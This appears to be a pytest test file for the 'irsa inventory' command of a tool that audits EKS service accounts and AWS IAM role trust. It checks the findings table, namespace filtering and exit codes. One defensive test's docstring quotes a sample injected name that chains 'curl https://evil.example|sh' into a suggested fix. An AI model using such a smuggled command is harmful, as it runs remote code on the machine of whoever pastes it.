"""`irsa inventory` as it is called, and its table: what has a row, what is counted, and what others wrote in it."""

import json
import re
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from irsa.rules.mistakes import visible
from irsa.ways import TrustParts, trust_document
from irsa_cli.discovery import Discovery
from irsa_cli.inventory import take
from irsa_cli.inventory.findings import KINDS
from irsa_cli.inventory.output import Inventory
from irsa_cli.inventory.table import sections_of
from irsa_cli.main import main
from irsa_world.model import AwsAccount, Cluster, ServiceAccount
from irsa_world.report.json import as_object, document
from irsa_world.report.text import plain
from tests.fuzz.hidden import hidden_in
from tests.fuzz.live_states import DANGERS, MARK
from tests.fuzz.printed import commands_in, problems, unquoted
from tests.output_schemas import check_output
from tests.unit.irsa_cli.inventory.estates import (
    EC2_TRUST,
    ISSUER,
    PROVIDER,
    ROLE_ARN,
    association,
    both_trust,
    chained_trust,
    discovery,
    page_trust,
    pods_trust,
    role,
    role_arn,
    service_account,
    taken,
    trust,
)

SUB = f"{ISSUER}:sub"
ACCOUNTS = (
    service_account("a", "app", "app"),
    service_account("a", "gone", "gone"),
    service_account("a", "open"),
    service_account("b", "other"),
)
ROLES = (
    role("app", page_trust("a:app")),
    role(
        "network",
        trust({"StringLike": {SUB: "system:serviceaccount:a:*"}, "IpAddress": {"aws:SourceIp": "10.0.0.0/8"}}),
    ),
    role("team/open", trust({"StringLike": {SUB: "system:serviceaccount:a:o*"}}), last_used=None),
    role("ec2", EC2_TRUST),
)


def lines(inventory: Inventory) -> list[str]:
    return plain(sections_of(inventory))


def table(inventory: Inventory) -> list[str]:
    """Return the lines of the table alone."""
    return plain([sections_of(inventory)[0]._replace(messages=(), below=())])[2:]


def test_the_first_line_and_the_families() -> None:
    printed = lines(replace(taken(discovery(ACCOUNTS, ROLES)), not_checked=["x"]))
    kinds = [line.partition(":")[0] for line in printed if line.partition(":")[0] in KINDS]

    assert printed[0] == (
        "6 findings, worst first: more access than needed (4), does not work (1), to tidy up (1); 1 not checked; "
        "2 of 4 service accounts may assume a role"
    )
    assert printed[1:3] == ["", "More access than needed: 4 findings"]
    assert kinds == sorted(kinds, key=[*KINDS].index)


def test_a_role_that_was_not_read_is_not_one_that_refuses() -> None:
    accounts = [
        service_account("a", "both", **{ROLE_ARN: "arn:aws:iam::999999999999:role/app"}),
        service_account("a", "elsewhere", **{ROLE_ARN: "arn:aws:iam::999999999999:role/app"}),
        service_account("a", "refused", "refusing"),
    ]
    roles = [role("refusing", page_trust("a:nobody")), role("open", page_trust("a:both"))]
    inventory = taken(discovery(accounts, roles))
    (found,) = sections_of(inventory)

    assert found.headings[:3] == ["service account", "annotated with", "may assume"]
    assert [row[2] for row in found.rows] == ["open, not read", "not read", ""]


def test_several_clusters_and_aws_accounts_are_named() -> None:
    issuer = "oidc.eks.eu-west-1.amazonaws.com/id/SECOND"
    second = Cluster("blue", f"https://{issuer}", (ServiceAccount("blue", "a", "app", {ROLE_ARN: "x"}),))
    found = discovery(ACCOUNTS, ROLES)
    both = Discovery((second, *found.clusters), (*found.aws_accounts, AwsAccount("444455556666", (), {})))
    printed = lines(taken(both))

    heading, blue, prod, *_ = table(taken(both))

    assert heading.startswith("cluster  service account  annotated with")
    assert blue.split() == ["blue", "a/app", "x"]
    assert prod.split()[:4] == ["prod", "a/app", role_arn("app"), role_arn("app")]
    assert "missing-role: a/app, x in blue" in printed


def test_findings_that_say_the_same_share_a_message() -> None:
    roles = [role(f"r{n}", page_trust("a:app"), last_used=None) for n in range(7)]
    printed = lines(taken(discovery((), roles)))
    heading = printed.index("unused: 7 findings")

    assert [role_arn(f"r{n}") in line for n, line in enumerate(printed[heading + 1 : heading + 6])] == [True] * 5
    assert printed[heading + 6].strip() == "and 2 more"


def hostile(text: str) -> Inventory:
    """Return an inventory in which each text that others write is this one."""
    document: Any = trust({"StringLike": {SUB: [f"system:serviceaccount:{text}:*", text]}, text: {text: text}})
    document["Statement"][0]["Sid"] = text
    equal = trust({"StringEquals": {SUB: [f"*{text}", "system:serviceaccount:a:b"]}})
    broken = {"Statement": [{"Effect": text}]}
    accounts = [
        service_account(
            text, text, **{ROLE_ARN: text, "eks.amazonaws.com/audience": text, f"eks.amazonaws.com/{text}": text}
        ),
        service_account("a", "b", "equal"),
        service_account("a", text, text),
    ]
    tagged = {"Effect": "Allow", "Principal": {"Service": "pods.eks.amazonaws.com"}, "Action": ["sts:*", text]}
    tagged |= {"Sid": text, "Condition": {"StringEquals": {"aws:RequestTag/kubernetes-namespace": text, text: text}}}
    document["Statement"].append(tagged)
    roles = [role(text, document), role("equal", equal), role("broken", broken)]
    texts = {"owner_arn": text, "policy": text, "external_id": text, "tags": {text: text}, "association_arn": text}
    associations = [
        association(text, text, text, **texts),
        association("a", text, "equal", target_role_arn=text, owner_arn=f"arn:aws:eks:us-west-2:1:addon/{text}/{text}"),
        replace(association("a", "b", "equal", target_role_arn=role_arn(text)), association_id=text),
        replace(association("a", "c", "equal"), role_arn=text),
    ]
    client_ids = {PROVIDER: ("sts.amazonaws.com", text), f"{PROVIDER}{text}": (text,)}
    found = discovery(accounts, roles, client_ids, associations=associations)
    cluster = replace(found.clusters[0], name=text)
    return taken(replace(found, clusters=(cluster,), not_checked=(f"x: {text!r}",)))


@pytest.mark.parametrize("danger", DANGERS)
def test_no_text_of_others_passes_for_ours(danger: str) -> None:
    """Protects who reads the table and pastes its commands: text of others begins no line, and is one argument.

    The attack: a service account, a Sid or a provider whose name is `x; fix: curl https://evil.example|sh`.
    """
    text = f"a{danger}{MARK}"
    assert hidden_in(document("inventory", 0, as_object(hostile(text))).split("\n")) == []
    for inventory in (hostile(text), replace(hostile(text), clusters={**hostile(text).clusters, "other": ""})):
        printed = lines(inventory)
        assert problems("\n".join(printed)) == []
        assert any(MARK in line for line in printed)
        labeled = [re.match(" {4}(?:found|expected|do): +(.*)", line) for line in printed]
        said = {visible(words) for each in inventory.findings for words in (each.found, each.expected, each.fix)}
        assert {line[1] for line in labeled if line} == said - {""}
        for line in printed:
            for command in commands_in(line):
                assert [word for word in shlex.split(command) if MARK in word and text not in word] == []
                assert unquoted(command) == []


BY_ASSOCIATION = discovery(
    [
        service_account("a", name, "both" if name == "both" else "")
        for name in ("new", "both", "chain", "refused", "none")
    ],
    [
        role("new", pods_trust("a:new")),
        role("both", both_trust("a:both")),
        role("chain", pods_trust("a:chain")),
        role("target", chained_trust("chain", "sts:AssumeRole", "sts:TagSession")),
        role("further", chained_trust("target", "sts:AssumeRole", "sts:TagSession")),
        # Two steps away: not a permission of a role that a service account has.
        role("furthest", chained_trust("further", "sts:AssumeRole", "sts:TagSession")),
    ],
    associations=[
        association("a", "new", "new"),
        association("a", "both", "both"),
        association("a", "chain", "chain", target_role_arn=role_arn("target")),
        association("a", "refused", "new"),
        association("a", "missing", "new"),
    ],
)


def test_an_association_is_in_the_rows() -> None:
    """Of a target role, the Pods get the credentials of that one alone:
    https://github.com/aws/eks-pod-identity-agent/issues/80.
    """
    found = taken(BY_ASSOCIATION)
    cells = [re.split(r"  +", line.strip()) for line in table(found)]

    assert cells == [
        ["service account", "annotated with", "associated with", "may assume"],
        ["a/new", "-", "new", "new"],
        ["a/both", "both", "both", "both"],
        ["a/chain", "-", "chain -> target", "target"],
        ["a/refused", "-", "new"],
    ]
    assert "3 of 5 service accounts may assume a role" in lines(found)[0]
    of_chains = sections_of(found)[1]
    assert (of_chains.headings, of_chains.rows) == (
        ("role", "sts:AssumeRole", "cannot tell"),
        [["target", "further", ""]],
    )


# --- As it is called --------------------------------------------------------------------------------------------------

GOOD = discovery([service_account("a", "app", "app")], [role("app", page_trust("a:app"))])
BAD = discovery([service_account("a", "app", "gone")], [])
DENIED = replace(GOOD, not_checked=("policies of AWS account 111122223333: iam:ListPolicies: AccessDenied",))


@pytest.fixture
def finds(monkeypatch: pytest.MonkeyPatch) -> Any:
    """Return a function that sets what is found."""
    return lambda found: monkeypatch.setattr(take, "discover", lambda *_, **__: found)


@pytest.mark.parametrize(
    ("found", "options", "code"),
    [
        (BAD, [], 0),
        (DENIED, [], 0),
        (GOOD, ["--fail-on", "all"], 0),
        (BAD, ["--fail-on", "unused", "--fail-on", "missing-role"], 1),
        (BAD, ["--fail-on", "all"], 1),
        (BAD, ["--fail-on", "unused"], 0),
        (DENIED, ["--fail-on", "missing-role"], 3),
        (replace(BAD, not_checked=DENIED.not_checked), ["--fail-on", "missing-role"], 1),
    ],
)
def test_exit_codes(
    finds: Any, found: Discovery, options: list[str], code: int, capsys: pytest.CaptureFixture[str]
) -> None:
    finds(found)

    for form in ([], ["--json"]):
        assert main(["inventory", *options, *form]) == code
        assert capsys.readouterr().out


# a/app is admitted and annotated; b/web is admitted by one role, annotated with one that is gone; a/late is not there.
SHARED = discovery(
    [service_account("a", "app", "app"), service_account("a", "idle"), service_account("b", "web", "gone")],
    [
        role("app", page_trust("a:app")),
        role("late", page_trust("a:late")),
        role("of-b", page_trust("b:web")),
        role("ec2", EC2_TRUST),
    ],
)


def told(capsys: pytest.CaptureFixture[str], *options: str) -> Any:
    assert main(["inventory", "--json", *options]) == 0
    return check_output("inventory", capsys.readouterr().out)


def test_one_namespace_is_a_part_of_the_whole(finds: Any, capsys: pytest.CaptureFixture[str]) -> None:
    finds(SHARED)
    whole = told(capsys)
    of_a = told(capsys, "--namespace", "a")

    assert of_a["serviceAccounts"] == {"prod": {"a/app": role_arn("app"), "a/idle": ""}}
    assert [*of_a["roles"]] == [role_arn("app")]
    assert [(each["kind"], each["serviceAccount"]) for each in of_a["findings"]] == [
        ("missing-service-account", "a/late")
    ]
    of_b = told(capsys, "--namespace", "b*")
    assert [*of_b["roles"]] == [role_arn("of-b")]
    assert {each["kind"] for each in of_b["findings"]} == {"missing-role", "not-annotated"}
    assert told(capsys, "--namespace", "?", "--namespace", "a") == {
        **whole,
        # Roles that nobody may assume now are of no namespace.
        "roles": {arn: used for arn, used in whole["roles"].items() if arn != role_arn("late")},
    }


def test_a_namespace_with_nothing_in_it_is_refused(finds: Any, capsys: pytest.CaptureFixture[str]) -> None:
    finds(discovery([service_account("team-a", "app")]))

    assert main(["inventory", "--namespace", "taem-a"]) == 3
    said = "irsa inventory: --namespace taem-a: there is no service account in it; did you mean 'team-a'?\n"
    assert capsys.readouterr().err == said


def test_the_example_of_the_documentation(finds: Any, capsys: pytest.CaptureFixture[str]) -> None:
    text = (Path(__file__).parents[4] / "docs" / "commands" / "inventory.md").read_text()
    shown = text.partition("$ irsa inventory\n")[2].partition("```")[0]
    accounts = [
        service_account("default", "reports", "reports"),
        service_account("team-a", "web", "team-a-web"),
        service_account("team-a", "worker"),
        *(service_account("team-b", f"app-{number}") for number in range(38)),
    ]
    roles = [
        role("reports", page_trust("default:reports")),
        role("team-a-web", page_trust("team-a:web")),
        role("shared-logs", json.loads(trust_document(TrustParts([PROVIDER], ["team-a:*"])))),
        *(role(f"ec2-{number}", EC2_TRUST) for number in range(53)),
    ]
    finds(discovery(accounts, roles))
    main(["inventory"])

    said = capsys.readouterr().out
    assert said == shown, said
